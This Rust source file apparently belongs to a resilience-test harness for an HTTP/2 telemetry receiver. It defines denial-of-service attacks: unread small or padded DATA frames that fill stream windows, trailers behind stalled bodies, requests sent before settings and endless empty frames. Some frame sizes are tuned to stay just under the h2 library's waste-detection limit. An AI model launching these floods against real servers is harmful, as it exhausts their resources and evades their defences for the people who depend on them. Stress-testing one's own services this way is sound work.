//! Bodies that announce more than they send: unread frames, and trailers behind them.

use std::io;
use std::net::SocketAddr;

use crate::hpack::{self, Call, Filling};
use crate::http2::{DATA, END_STREAM, Http2, PADDED, Reading};
use crate::target::{Attackers, Target, attackers};
use crate::trial::Attack;

const SECONDS: u64 = 7;
/// What requests announce: as much as fits into a share of the reading budget, and as much as a
/// request may have.
const ANNOUNCED_BYTES: [u32; 4] = [250 << 10, 300 << 10, 1 << 20, 4 << 20];
const GRPC_PREFIX_BYTES: u32 = 5;
/// h2 counts what frames of data are shorter than this, and ends a connection whose unread frames
/// lack more than half of its window, or `MIN_WASTE_BYTES`. The attackers stay just below.
const SMALL_FRAME_BYTES: u32 = 256;
const MIN_WASTE_BYTES: u32 = 25_600;

pub(super) fn attacks() -> Vec<Attack> {
    let attack = |name, what, start| Attack::calm(name, what, SECONDS, start);
    let busy = |name, what, start| Attack::busy(name, what, SECONDS, start);
    vec![
        attack("trailers/64", "64 connections, trailers behind bodies that wait", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 1_000, padding: 0, trailers: true })
        }),
        busy("trailers/256", "256 connections, trailers behind bodies that wait", |t| {
            hold_bodies(t, 256, Content { frame_bytes: 1_000, padding: 0, trailers: true })
        }),
        attack(
            "frames-1/64",
            "64 connections, as many frames of 1 byte as are allowed, unread",
            |t| hold_bodies(t, 64, Content::of(1)),
        ),
        attack(
            "frames-10/64",
            "64 connections, as many frames of 10 bytes as are allowed, unread",
            |t| hold_bodies(t, 64, Content::of(10)),
        ),
        attack("frames-260/1", "1 connection, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 1, Content::of(260))
        }),
        attack("frames-260/64", "64 connections, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 64, Content::of(260))
        }),
        busy("frames-260/256", "256 connections, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 256, Content::of(260))
        }),
        busy("frames-whole/256", "256 connections, bodies in the largest frames, unread", |t| {
            hold_bodies(t, 256, Content::of(16_000))
        }),
        attack("frames-padded/64", "64 connections, 1 byte and 255 of padding a frame", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 1, padding: 255, trailers: false })
        }),
        busy("frames-early/256", "256 connections, 100 requests before the settings", |t| {
            hold_before_settings(t, 256)
        }),
        Attack::busy(
            "frames-empty/16",
            "16 connections, empty frames of data without end",
            SECONDS,
            |t| send_empty_frames(t, 16),
        ),
    ]
}

/// How a body is sent.
#[derive(Clone, Copy)]
struct Content {
    frame_bytes: u32,
    padding: u8,
    /// Whether trailers follow, as large as a head may be.
    trailers: bool,
}

fn hold_bodies(target: &Target, connections: usize, content: Content) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let call = if number.is_multiple_of(2) { Call::Grpc } else { Call::Http };
        hold_on_connection(target.otlp(number / 2), call, content)
    })
}

/// Clients that do not wait for the receiver's settings, as many do not.
fn hold_before_settings(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let address = target.otlp(number);
        async move {
            let connection = Http2::open_without_settings(address).await?;
            hold_streams(connection, Call::Grpc, Content::smallest_free()).await
        }
    })
}

/// Fills the windows of all streams that the receiver allows.
async fn hold_on_connection(address: SocketAddr, call: Call, content: Content) -> io::Result<()> {
    let connection = Http2::open(address, &[], Reading::Everything).await?;
    hold_streams(connection, call, content).await
}

async fn hold_streams(mut connection: Http2, call: Call, content: Content) -> io::Result<()> {
    let limits = connection.limits;
    let head = hpack::post(call, "identity");
    let trailers = hpack::filling(Filling::Tiny, limits.header_list);
    let room = limits.connection_window.checked_div(limits.streams).unwrap_or_default();
    let room = room.min(limits.stream_window).saturating_sub(GRPC_PREFIX_BYTES);
    let mut waste = (limits.connection_window / 2).max(MIN_WASTE_BYTES) / 10 * 9;
    for bytes in ANNOUNCED_BYTES.into_iter().cycle().take(limits.streams as usize) {
        let stream = connection.request(&head, 0);
        if let Call::Grpc = call {
            connection.frame(DATA, 0, stream, &[&[0][..], &bytes.to_be_bytes()].concat());
        }
        let mut left = room;
        while let Some(rest) = left.checked_sub(content.charged()) {
            match waste.checked_sub(content.waste()) {
                Some(less) => {
                    waste = less;
                    connection.data(stream, content);
                    left = rest;
                }
                None if left > SMALL_FRAME_BYTES => {
                    connection.data(stream, Content::smallest_free());
                    left -= SMALL_FRAME_BYTES;
                }
                None => break,
            }
        }
        if content.trailers {
            connection.head(stream, &trailers, END_STREAM);
        }
        connection.flush().await?;
    }
    connection.hold().await
}

impl Content {
    const fn of(frame_bytes: u32) -> Self {
        Self { frame_bytes, padding: 0, trailers: false }
    }

    /// The smallest frames that a connection may send without a limit.
    const fn smallest_free() -> Self {
        Self::of(SMALL_FRAME_BYTES)
    }

    /// The bytes of a window that a frame takes.
    fn charged(self) -> u32 {
        let padding = u32::from(self.padding);
        self.frame_bytes + if padding > 0 { padding + 1 } else { 0 }
    }

    /// What h2 counts against a connection for a frame that is not read yet.
    const fn waste(self) -> u32 {
        SMALL_FRAME_BYTES.saturating_sub(self.frame_bytes)
    }
}

impl Http2 {
    /// Adds one frame of data. Tag and wire type 10 are a field of a request, so that the beginning
    /// of a message is valid.
    fn data(&mut self, stream: u32, content: Content) {
        let data = vec![10; content.frame_bytes as usize];
        match content.padding {
            0 => self.frame(DATA, 0, stream, &data),
            padding => {
                let zeros = vec![0; usize::from(padding)];
                self.frame(DATA, PADDED, stream, &[&[padding][..], &data, &zeros].concat());
            }
        }
    }
}

fn send_empty_frames(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let address = target.otlp(number);
        async move {
            let mut connection = Http2::open(address, &[], Reading::Everything).await?;
            let stream = connection.request(&hpack::post(Call::Http, "identity"), 0);
            loop {
                for _ in 0..1_000 {
                    connection.frame(DATA, 0, stream, &[]);
                }
                connection.flush().await?;
            }
        }
    })
}
